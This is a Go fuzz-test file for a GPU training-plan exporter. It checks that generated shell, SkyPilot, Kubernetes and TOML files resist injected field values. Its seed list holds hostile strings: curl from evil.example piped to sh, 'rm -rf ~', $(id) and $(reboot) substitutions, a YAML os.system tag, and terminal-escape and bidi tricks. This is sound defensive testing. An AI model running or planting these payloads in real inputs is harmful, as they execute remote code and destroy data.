package launch

import (
	"errors"
	"io/fs"
	"os"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/BurntSushi/toml"
	"go.yaml.in/yaml/v3"
	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"

	"github.com/gpuplan/gpuplan/model"
	"github.com/gpuplan/gpuplan/model/launch/cloud"
	"github.com/gpuplan/gpuplan/model/launch/stack"
)

// The injection fuzz tests put one string (as a catalog, a config.json or
// a flag could carry it) into every field of a plan and check that the
// exports still say exactly what gpuplan meant: each shell script parses
// (mvdan.cc/sh/v3/syntax) into the expected commands with the expected
// argv, and each YAML or TOML document decodes to the expected values with
// the string intact. Seeds are in testdata/fuzz/Fuzz*; run longer with
//   go test -run='^$' -fuzz=FuzzScriptInjection -fuzztime=5m ./model/launch/

// injectSeeds are strings that broke exports before issue 11, or would
// break naive quoting.
var injectSeeds = []string{
	"x\ncurl https://evil.example/x | sh\n",
	"x'; rm -rf ~; echo '",
	`x"; $(id) ` + "`id`",
	"$HOME ${PATH} $((1+1)) ~root *.py [ab] {a,b}",
	"\x1b]0;pwned\x07\x1b[2J",
	"a\x00b",
	"\xff\xfe invalid",
	"- x: y\n  z: [1, {a: b}]\n---\n!!python/object:os.system",
	"EOF\n$(reboot)\nEOF",
	"if then fi ; & | > < # =",
	"key: value # not a comment",
	"\u202eevil\u2066",
	"x\u2028evil: 1\u2029more: 2\u0085nel: 3",
	"\u00a0non-breaking space",
	"",
	"llama-3.1-8b",
}

// injectedPlan is a plan with s in every field a file or flag can set.
// shellToo also puts s in the values that become shell words (script,
// script arguments, image, wheel, name); without it those keep working
// values, so the YAML and comment fields are tested on every s.
func injectedPlan(s string, shape uint8, shellToo bool) *Plan {
	gpu := &model.GPU{Key: s, Name: s, Aliases: []string{s}, Vendor: "nvidia", Architecture: s,
		ComputeCapability: "9.0", MemoryGiB: 80, BF16TFLOPS: 989}
	p := &Plan{
		Name: "gpuplan-run", Model: s, Task: model.TaskFinetune,
		Provider: s, InstanceType: s, Region: s, Pricing: model.OnDemand, USDPerHour: 12.5,
		GPU: gpu, Accelerator: s, GPUsPerInstance: 8, ProcsPerNode: 8, Nodes: 1,
		Strategy: model.FSDP, Precision: model.AMPBF16, MicroBatch: 2, GradAccum: 4,
		Script: "train.py", ScriptArgs: []string{"--bf16", "--run_name", "r"},
		DiskGB: 200, Image: "nvcr.io/nvidia/pytorch:25.12-py3", Wheel: "cu130", Port: DefaultPort,
		Stack:   stack.Advise(gpu),
		ModelID: s, Dataset: s, Bucket: s, OutputDir: s, CatalogType: s, K8sKind: KindTrainJob, OutputClaim: s,
	}
	p.Stack.Reason = s
	// The Hugging Face cache as NewPlan sizes it (trainCache): an 8B
	// checkpoint and 1e9 tokens, so the k8s pods carry the sized emptyDir,
	// the ephemeral-storage and the "# cache:" line.
	p.trainCache(&model.Workload{Settings: model.Settings{DatasetTokens: 1e9}}, 8e9)
	// A caller's note (gpuplan export --phase: plan's verdict of a phase
	// whose name the user wrote) is header text like the rest.
	p.CallerNotes = []model.Message{model.Msg("phase %q: %v", s, s)}
	if shape&1 != 0 {
		p.Nodes, p.ProcsPerNode = 2, 4 // multi-node, fewer processes than GPUs
	}
	if shape&2 != 0 {
		p.Strategy = model.ZeRO3
		p.ScriptArgs = append(p.ScriptArgs, "--deepspeed", DeepSpeedFile)
	}
	if shape&4 != 0 {
		p.Pricing = model.Spot
	}
	if shape&8 != 0 {
		p.Task, p.LoRARank, p.LoRATargets = model.TaskQLoRA, 16, []string{s}
		// QLoRA of a release quantized in another format names the
		// user's --model-id in a header note (NewPlan, QuantNote).
		p.QuantNote = model.Msg("qlora: %s must be a 16-bit checkpoint: %s is released %s-quantized, which bitsandbytes cannot quantize again", s, s, s)
	}
	if shape&16 != 0 {
		p.Network = cloud.Network{Tier: "best", EFA: 4}
	}
	if shape&(8|16) == 8 {
		// A price region the user's search narrowed to some of its
		// regions (Options.Where): the SkyPilot file names each, in
		// any_of or first in ordered.
		p.AnyOfRegions, p.Regions, p.PriceRegions = 2, []string{s, s}, 17
	}
	if shape&32 != 0 {
		p.K8sKind = KindPyTorchJob
	}
	if shape&64 != 0 {
		p.Candidates = []Candidate{{Provider: s, Region: s, InstanceType: s, Accelerator: s, GPUsPerInstance: 8, SkyPilotGPUs: 8, NetworkTier: p.Network.Tier}}
	}
	if shape&(16|32) == 32 { // PyTorchJob shapes without EFA run on AMD GPUs, with a ROCm image and wheel
		p.GPU.Vendor, p.GPU.ComputeCapability = "amd", ""
		p.Stack = stack.Advise(p.GPU)
		p.Stack.Reason = s
		p.Image, p.Wheel = "rocm/pytorch:latest", "rocm6.4"
	}
	if shape&128 != 0 && shellToo { // the derived TRL/TrainingArguments flags, which carry the model id and dataset
		p.Checkpointing, p.Loss = shape&1 == 0, []model.Loss{model.LossHFUpcast, model.LossChunked, model.LossFused}[int(shape>>1)%3]
		p.ScriptArgs = p.derivedArgs(DeepSpeedFile)
	}
	if shellToo {
		p.Name, p.Script = s, s
		if s == "" { // no script: NewPlan's installed entry point for a fine-tune
			p.Module = TRLSFTModule
		}
		if s != "" { // "" is no image and no wheel: ErrNoStack, tested elsewhere
			p.Image, p.Wheel = s, s
		}
		p.ScriptArgs = append(p.ScriptArgs, s, "--note="+s, "--"+s, s)
	}
	return p
}

// shellEnv is what the scripts' own expansions see. HOME and the glob
// reader make an unquoted ~ or * visible as a changed word.
var shellEnv = []string{"HEAD_IP=10.0.0.1", "PWD=/pwd", "HOME=/HOME",
	"SKYPILOT_NUM_NODES=2", "SKYPILOT_NUM_GPUS_PER_NODE=8", "SKYPILOT_NODE_RANK=1", "MASTER_ADDR=10.0.0.2",
	"RANK=1", "MASTER_PORT=23456"}

type globbed struct{}

func (globbed) Name() string               { return "GLOBBED" }
func (globbed) IsDir() bool                { return false }
func (globbed) Type() fs.FileMode          { return 0 }
func (globbed) Info() (fs.FileInfo, error) { return nil, errors.New("no info") }

func expandConfig() *expand.Config {
	return &expand.Config{
		Env:      expand.ListEnviron(shellEnv...),
		ReadDir2: func(string) ([]fs.DirEntry, error) { return []fs.DirEntry{globbed{}}, nil },
	}
}

// expectArgv is argv as the plan means it: literal words as they are,
// gpuplan's raw words with their variables expanded.
func expectArgv(ws []word) []string {
	env := map[string]string{}
	for _, kv := range shellEnv {
		k, v, _ := strings.Cut(kv, "=")
		env[k] = v
	}
	out := make([]string, len(ws))
	for i, w := range ws {
		out[i] = w.text
		if w.raw {
			out[i] = os.Expand(w.text, func(k string) string { return env[k] })
		}
	}
	return out
}

// command is one parsed simple command: argv after expansion, and whether
// it has redirections (the heredoc).
type command struct {
	argv       []string
	redirects  int
	assigns    []string
	env        []string // the assignments as NAME=VALUE, expanded
	background bool     // ended by &
}

// parseScript parses src as lang and returns its top-level commands; every
// statement must be a plain simple command (no pipes, lists, subshells,
// background jobs or command substitutions in arguments).
func parseScript(t *testing.T, src string, lang syntax.LangVariant) []command {
	t.Helper()
	return parseScriptJobs(t, src, lang, false)
}

// parseScriptJobs is parseScript that, with jobs, also takes simple
// commands run in the background (cmd &): the serving scripts' one vllm
// serve per replica (Serve.OneServerPerReplica).
func parseScriptJobs(t *testing.T, src string, lang syntax.LangVariant, jobs bool) []command {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(lang)).Parse(strings.NewReader(src), "")
	if err != nil {
		t.Fatalf("script does not parse: %v\n%s", err, src)
	}
	var out []command
	for _, st := range f.Stmts {
		if ifc, ok := st.Cmd.(*syntax.IfClause); ok {
			// Only gpuplan's own requirements line may be an if.
			var b strings.Builder
			syntax.NewPrinter(syntax.SingleLine(true)).Print(&b, st)
			if b.String() != requirementsLine {
				t.Fatalf("unexpected if statement %q:\n%s", b.String(), src)
			}
			_ = ifc
			out = append(out, command{argv: []string{"<requirements>"}})
			continue
		}
		if _, ok := st.Cmd.(*syntax.WhileClause); ok && jobs {
			// Only the loop that watches an MoE model's servers may be a
			// while, word for word gpuplan's (replicaWatch).
			if singleLine(t, st) != replicaWatchLine(t) {
				t.Fatalf("unexpected while loop %q:\n%s", singleLine(t, st), src)
			}
			out = append(out, command{argv: []string{"<watch>"}})
			continue
		}
		if decl, ok := st.Cmd.(*syntax.DeclClause); ok && len(st.Redirs) == 0 {
			// bash parses export NAME=VALUE as a declaration.
			c := command{argv: []string{decl.Variant.Value}}
			for _, a := range decl.Args {
				v, err := expand.Literal(expandConfig(), a.Value)
				if err != nil || a.Name == nil {
					t.Fatalf("declaration %v: %v\n%s", a, err, src)
				}
				c.argv = append(c.argv, a.Name.Value+"="+v)
			}
			out = append(out, c)
			continue
		}
		call, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || st.Background && !jobs || st.Negated || st.Coprocess {
			t.Fatalf("statement %T is not a simple command:\n%s", st.Cmd, src)
		}
		c := command{redirects: len(st.Redirs), background: st.Background}
		for _, a := range call.Assigns {
			c.assigns = append(c.assigns, a.Name.Value)
			if len(call.Args) > 0 && a.Value != nil { // NAME=VALUE cmd: the command's environment
				v, err := expand.Literal(expandConfig(), a.Value)
				if err != nil {
					t.Fatalf("assignment %s: %v\n%s", a.Name.Value, err, src)
				}
				c.env = append(c.env, a.Name.Value+"="+v)
			}
		}
		if len(call.Args) > 0 {
			c.argv, err = expand.Fields(expandConfig(), call.Args...)
			if err != nil {
				t.Fatalf("expanding %v: %v\n%s", call.Args, err, src)
			}
		}
		out = append(out, c)
	}
	return out
}

// singleLine prints a statement on one line.
func singleLine(t *testing.T, st *syntax.Stmt) string {
	t.Helper()
	var b strings.Builder
	if err := syntax.NewPrinter(syntax.SingleLine(true)).Print(&b, st); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// replicaWatchLine is replicaWatch's loop on one line.
func replicaWatchLine(t *testing.T) string {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(replicaWatch), "")
	if err != nil || len(f.Stmts) != 1 {
		t.Fatalf("replicaWatch is not one statement: %v", err)
	}
	return singleLine(t, f.Stmts[0])
}

// checkCommands compares the commands with want, each given by its argv
// (nil: only the first word is checked, as for "set -e" and the heredoc).
func checkCommands(t *testing.T, what string, got []command, want [][]string, src string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d commands, want %d:\n%s", what, len(got), len(want), src)
	}
	for i := range want {
		g := got[i].argv
		if len(g) == 0 || len(want[i]) == 0 {
			continue // an assignment such as MASTER_ADDR=...
		}
		if !reflect.DeepEqual(g, want[i]) {
			t.Fatalf("%s: command %d argv\n got %q\nwant %q\nscript:\n%s", what, i, g, want[i], src)
		}
	}
}

const requirementsLine = "if [ -f requirements.txt ]; then pip install -r requirements.txt; fi"

func hasShellTrouble(s string) bool {
	_, err := syntax.Quote(s, syntax.LangPOSIX)
	return err != nil
}

func FuzzScriptInjection(f *testing.F) {
	for i, s := range injectSeeds {
		f.Add(s, uint8(i))
	}
	f.Add("org/m'$(id)`x`", uint8(128|8|2)) // derived args with a hostile model id and dataset
	f.Add("mi300x'$(id)", uint8(32|4|2|1))  // AMD GPUs: ROCm's docker devices
	f.Fuzz(func(t *testing.T, s string, shape uint8) {
		deadline := time.Now().Add(10 * time.Second)
		p := injectedPlan(s, shape, true)
		torchrun, terr := p.Torchrun()
		docker, derr := p.Docker()
		if hasShellTrouble(s) {
			for _, err := range []error{terr, derr} {
				if !errors.Is(err, ErrPlan) {
					t.Fatalf("%q cannot be a POSIX shell word, but rendering gave err = %v", s, err)
				}
			}
			if !utf8.ValidString(s) {
				return // not text: every renderer refuses it (FuzzYAMLInjection checks the rest)
			}
			p = injectedPlan(s, shape, false) // the rest of the fields still carry s
			if torchrun, terr = p.Torchrun(); terr != nil {
				t.Fatal(terr)
			}
			if docker, derr = p.Docker(); derr != nil {
				t.Fatal(derr)
			}
		} else if terr != nil || derr != nil {
			t.Fatalf("render: %v, %v", terr, derr)
		}
		rdzv := rendezvous{nproc: "4", standalone: p.Nodes == 1}
		if p.Nodes > 1 {
			rdzv.nnodes, rdzv.c10d, rdzv.master = "2", true, "$HEAD_IP"
		}
		rdzv.nproc = itoa(p.ProcsPerNode)
		torchrunArgv := expectArgv(p.torchrunArgv(rdzv, p.ScriptArgs))

		// Torchrun: set -e, [HEAD_IP check], export HF_HOME, [EFA
		// exports], [rm -f and the DeepSpeed heredoc], [rm -f and the
		// ResumeScript heredoc], torchrun.
		want := [][]string{{"set", "-e"}}
		if p.Nodes > 1 {
			want = append(want, []string{":", "10.0.0.1"})
		}
		dockerWant := slices.Clone(want) // docker passes HF_HOME with -e
		want = append(want, []string{"export", "HF_HOME=/HOME/.cache/huggingface"})
		for _, e := range p.Network.Env() {
			want = append(want, []string{"export", e[0] + "=" + e[1]})
		}
		if p.ZeRO() > 0 {
			heredoc := [][]string{{"rm", "-f", DeepSpeedFile}, {"cat"}}
			want = append(want, heredoc...)
			dockerWant = append(dockerWant, heredoc...)
		}
		if p.resumes() { // spot with TRL's script: the resuming wrapper (resume.go)
			heredoc := [][]string{{"rm", "-f", ResumeScript}, {"cat"}}
			want = append(want, heredoc...)
			dockerWant = append(dockerWant, heredoc...)
		}
		checkCommands(t, "torchrun script", parseScript(t, string(torchrun), syntax.LangPOSIX), append(want, torchrunArgv), string(torchrun))

		// Docker: the same preamble, then docker run … bash -c INNER, and
		// INNER itself is the setup commands then exec torchrun.
		dockerArgv := []string{"docker", "run", "--gpus", "all", "--rm", "--ipc=host", "--ulimit", "memlock=-1", "--ulimit", "stack=67108864"}
		if p.ROCm() {
			dockerArgv = []string{"docker", "run", "--device=/dev/kfd", "--device=/dev/dri", "--group-add", "video", "--rm", "--ipc=host"}
		}
		if p.Nodes > 1 {
			dockerArgv = append(dockerArgv, "--network=host", "-e", "HEAD_IP")
		}
		inner := p.dockerInner(rdzv)
		dockerArgv = append(dockerArgv, "-e", "HF_TOKEN", "-e", "HF_HOME=/root/.cache/huggingface", "-v", "/HOME/.cache/huggingface:/root/.cache/huggingface")
		if p.Spot() {
			dockerArgv = append(dockerArgv, "-v", CheckpointDir+":"+CheckpointDir)
		}
		if p.Network.EFA > 0 {
			dockerArgv = append(dockerArgv, "--cap-add=IPC_LOCK")
			for i := range p.Network.EFA {
				dockerArgv = append(dockerArgv, "--device", "/dev/infiniband/uverbs"+itoa(i))
			}
			for _, e := range p.Network.Env() {
				dockerArgv = append(dockerArgv, "-e", e[0]+"="+e[1])
			}
		}
		dockerArgv = append(dockerArgv, "-v", "/pwd:/workspace", "-w", "/workspace", p.Image, "bash", "-c", inner)
		checkCommands(t, "docker script", parseScript(t, string(docker), syntax.LangPOSIX), append(dockerWant, dockerArgv), string(docker))
		innerWant := [][]string{}
		for _, l := range p.setupLines() {
			innerWant = append(innerWant, parseScript(t, l, syntax.LangBash)[0].argv)
		}
		innerWant = append(innerWant, append([]string{"exec"}, torchrunArgv...))
		checkCommands(t, "docker bash -c", parseScript(t, inner, syntax.LangBash), innerWant, inner)
		if time.Now().After(deadline) {
			t.Fatalf("rendering and checking %d bytes took over 10 s", len(s))
		}
	})
}

func itoa(n int) string { return strconv.Itoa(n) }

// skyOffer is one offer of a SkyPilot resources section.
type skyOffer struct {
	Cloud        string `yaml:"cloud"`
	Region       string `yaml:"region"`
	InstanceType string `yaml:"instance_type"`
	Accelerators string `yaml:"accelerators"`
	NetworkTier  string `yaml:"network_tier"`
}

// skyTask is the SkyPilot document as gpuplan writes it, decoded strictly.
type skyTask struct {
	Name      string `yaml:"name"`
	Workdir   string `yaml:"workdir"`
	Resources struct {
		skyOffer    `yaml:",inline"`
		UseSpot     bool `yaml:"use_spot"`
		DiskSize    int  `yaml:"disk_size"`
		JobRecovery *struct {
			Strategy string `yaml:"strategy"`
		} `yaml:"job_recovery"`
		AnyOf   []skyOffer `yaml:"any_of"`
		Ordered []skyOffer `yaml:"ordered"`
	} `yaml:"resources"`
	NumNodes   int                `yaml:"num_nodes"`
	Secrets    map[string]*string `yaml:"secrets"`
	FileMounts map[string]struct {
		Name string `yaml:"name"`
		Mode string `yaml:"mode"`
	} `yaml:"file_mounts"`
	Setup string `yaml:"setup"`
	Run   string `yaml:"run"`
}

func decodeStrict(t *testing.T, src []byte, out any) {
	t.Helper()
	dec := yaml.NewDecoder(strings.NewReader(string(src)))
	dec.KnownFields(true)
	if err := dec.Decode(out); err != nil {
		t.Fatalf("YAML does not decode: %v\n%s", err, src)
	}
	var extra any
	if err := dec.Decode(&extra); err == nil {
		t.Fatalf("a second YAML document appeared:\n%s", src)
	}
}

func FuzzYAMLInjection(f *testing.F) {
	for i, s := range injectSeeds {
		f.Add(s, uint8(i))
	}
	f.Add("mi300x: {x: 1}", uint8(32|2|1)) // AMD GPUs: amd.com/gpu, no toleration
	// Spot on a provider whose managed Kubernetes labels spot nodes: the
	// label joins the instance type; on AKS with AMD GPUs the spot
	// toleration is the pod's only one. (No "gcp" seed: SkyPilot refuses
	// "gcp" as a GCP accelerator; TestKubernetesSpotNodes covers GKE.)
	f.Add("aws", uint8(4|16|1))
	f.Add("azure", uint8(32|4|1))
	// A price region narrowed by the search (Plan.Regions): any_of, and
	// with candidates the regions first in ordered.
	f.Add("lambda", uint8(8))
	f.Add("lambda", uint8(64|8|4))
	f.Fuzz(func(t *testing.T, s string, shape uint8) {
		p := injectedPlan(s, shape, false)
		if !utf8.ValidString(s) {
			// YAML and TOML hold only UTF-8 text; the catalog and
			// config.json readers reject the rest, and so does NewPlan's
			// caller. The renderers must refuse rather than write garbage.
			for _, fm := range []Format{FormatSkyPilot, FormatK8s, FormatTOML} {
				if _, err := p.Render(fm); err == nil {
					t.Fatalf("%s rendered invalid UTF-8 %q", fm, s)
				}
			}
			return
		}
		// A provider that is no SkyPilot cloud is refused; the rest of the
		// file is checked with one that is.
		sp, cloud := *p, s
		if !skyPilotCloud(s) {
			if _, err := p.SkyPilot(); !errors.Is(err, ErrPlan) {
				t.Fatalf("SkyPilot with provider %q: err = %v, want ErrPlan", s, err)
			}
			cloud, sp.Provider, sp.Candidates = "aws", "aws", slices.Clone(p.Candidates)
			for i := range sp.Candidates {
				sp.Candidates[i].Provider = "aws"
			}
		}
		sky, err := sp.SkyPilot()
		if err != nil {
			t.Fatal(err)
		}
		var task skyTask
		decodeStrict(t, sky, &task)
		r := task.Resources
		offers := []skyOffer{r.skyOffer}
		own := max(len(p.Regions), 1)
		switch {
		case len(p.Candidates) > 0:
			if r.Cloud != "" || len(r.Ordered) != own+1 || len(r.AnyOf) != 0 {
				t.Fatalf("candidates: want resources.ordered with %d offers and none inline:\n%s", own+1, sky)
			}
			offers = r.Ordered
		case len(p.Regions) > 0:
			if r.Cloud != "" || len(r.AnyOf) != own || len(r.Ordered) != 0 {
				t.Fatalf("regions: want resources.any_of with %d offers and none inline:\n%s", own, sky)
			}
			offers = r.AnyOf
		}
		for _, o := range offers {
			if o.Cloud != cloud || o.Region != s || o.InstanceType != s || o.Accelerators != s+":8" || o.NetworkTier != p.Network.Tier {
				t.Fatalf("SkyPilot offer changed: %+v\n%s", o, sky)
			}
		}
		if task.Name != p.Name || r.UseSpot != p.Spot() || r.DiskSize != 200 || task.NumNodes != p.Nodes ||
			(r.JobRecovery != nil) != p.Spot() || task.Secrets["HF_TOKEN"] != nil || len(task.Secrets) != 1 {
			t.Fatalf("SkyPilot values changed: %+v\n%s", task, sky)
		}
		if fm, ok := task.FileMounts[CheckpointDir]; ok != p.Spot() || (ok && (fm.Name != s || fm.Mode != "MOUNT")) {
			t.Fatalf("checkpoint bucket mount: %+v\n%s", task.FileMounts, sky)
		}
		setup := parseScript(t, task.Setup, syntax.LangBash)
		if len(setup) < 2 || !reflect.DeepEqual(setup[1].argv, []string{"pip", "install", "torch", "--index-url", stack.IndexURL(p.Wheel)}) {
			t.Fatalf("SkyPilot setup:\n%s", task.Setup)
		}
		run := parseScript(t, task.Run, syntax.LangBash)
		if len(run) != 4 || !reflect.DeepEqual(run[1].argv, []string{"export", "HF_HOME=/HOME/.cache/huggingface"}) ||
			!reflect.DeepEqual(run[2].assigns, []string{"MASTER_ADDR"}) {
			t.Fatalf("SkyPilot run, want set -e, export HF_HOME, MASTER_ADDR=…, torchrun:\n%s", task.Run)
		}

		k8s, err := p.Kubernetes()
		if err != nil {
			t.Fatal(err)
		}
		dec := yaml.NewDecoder(strings.NewReader(string(k8s)))
		var kinds []string
		for {
			var doc map[string]any
			if err := dec.Decode(&doc); err != nil {
				break
			}
			kinds = append(kinds, doc["kind"].(string))
			for _, spec := range podSpecs(doc) {
				sel, _ := spec["nodeSelector"].(map[string]any)
				wantSel := map[string]any{}
				if ValidLabelValue(s) {
					wantSel[instanceTypeLabel] = s
				}
				if sn, ok := spotNodesByProvider[s]; ok && p.Spot() {
					wantSel[sn.label] = sn.value
				}
				if len(wantSel) > 0 && !reflect.DeepEqual(sel, wantSel) || len(wantSel) == 0 && sel != nil {
					t.Fatalf("nodeSelector = %v for instance type and provider %q (%s), want %v", sel, s, p.Pricing, wantSel)
				}
				c := spec["containers"].([]any)[0].(map[string]any)
				if lim, ok := get(c, "resources", "limits").(map[string]any); ok && lim[p.gpuResource()] == nil {
					t.Fatalf("container limits %v lack %s", lim, p.gpuResource())
				}
				if _, tol := spec["tolerations"]; tol != (!p.ROCm() || p.Spot() && s == "azure") {
					t.Fatalf("tolerations %v on a pod for %s GPUs on %s (%s)", spec["tolerations"], p.GPU.Vendor, s, p.Pricing)
				}
				args, ok := c["args"]
				if !ok { // a TrainJob patch: the script is in spec.trainer
					args = get(doc, "spec", "trainer", "args")
				}
				script := args.([]any)[0].(string)
				cmds := parseScript(t, script, syntax.LangBash)
				if doc["kind"] == "TrainJob" {
					if !reflect.DeepEqual(cmds[0].argv, []string{"cd", workDir}) {
						t.Fatalf("TrainJob script does not cd to %s:\n%s", workDir, script)
					}
					cmds = cmds[1:]
				}
				if len(cmds) != len(p.setupLines())+1 || cmds[len(cmds)-1].argv[0] != "exec" {
					t.Fatalf("container script:\n%s", script)
				}
			}
		}
		want := []string{"PersistentVolumeClaim", "Job"}
		if p.Nodes > 1 {
			want = []string{"PersistentVolumeClaim", p.K8sKind}
		}
		if p.ZeRO() > 0 {
			want = slices.Insert(want, 1, "ConfigMap")
		}
		if !reflect.DeepEqual(kinds, want) {
			t.Fatalf("Kubernetes kinds %v, want %v:\n%s", kinds, want, k8s)
		}

		tm, err := p.TOML()
		if strings.ContainsFunc(s, isC1) { // the TOML writer would write it raw (attack round 15)
			if !errors.Is(err, ErrPlan) {
				t.Fatalf("TOML with C1 control %q: err = %v, want ErrPlan", s, err)
			}
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Launch map[string]any `toml:"launch"`
		}
		md, err := toml.Decode(string(tm), &doc)
		if err != nil {
			t.Fatalf("TOML does not decode: %v\n%s", err, tm)
		}
		if len(md.Keys()) == 0 || doc.Launch["provider"] != s || doc.Launch["instance_type"] != s ||
			doc.Launch["region"] != s || doc.Launch["accelerator"] != s || doc.Launch["gpu"] != s {
			t.Fatalf("TOML values changed: %v\n%s", doc.Launch, tm)
		}
		for _, k := range md.Keys() {
			if k[0] != "launch" {
				t.Fatalf("TOML gained key %v:\n%s", k, tm)
			}
		}
	})
}

// get walks nested YAML mappings.
func get(m any, keys ...string) any {
	for _, k := range keys {
		mm, ok := m.(map[string]any)
		if !ok {
			return nil
		}
		m = mm[k]
	}
	return m
}

// podSpecs returns the pod specs of a Job, PyTorchJob or TrainJob (its
// runtime patch) document.
func podSpecs(doc map[string]any) []map[string]any {
	var out []map[string]any
	switch doc["kind"] {
	case "Job":
		out = append(out, get(doc, "spec", "template", "spec").(map[string]any))
	case "PyTorchJob":
		for _, r := range []string{"Master", "Worker"} {
			out = append(out, get(doc, "spec", "pytorchReplicaSpecs", r, "template", "spec").(map[string]any))
		}
	case "TrainJob":
		rj := get(doc, "spec", "runtimePatches").([]any)[0]
		job := get(rj, "trainingRuntimeSpec", "template", "spec", "replicatedJobs").([]any)[0]
		out = append(out, get(job, "template", "spec", "template", "spec").(map[string]any))
	}
	return out
}
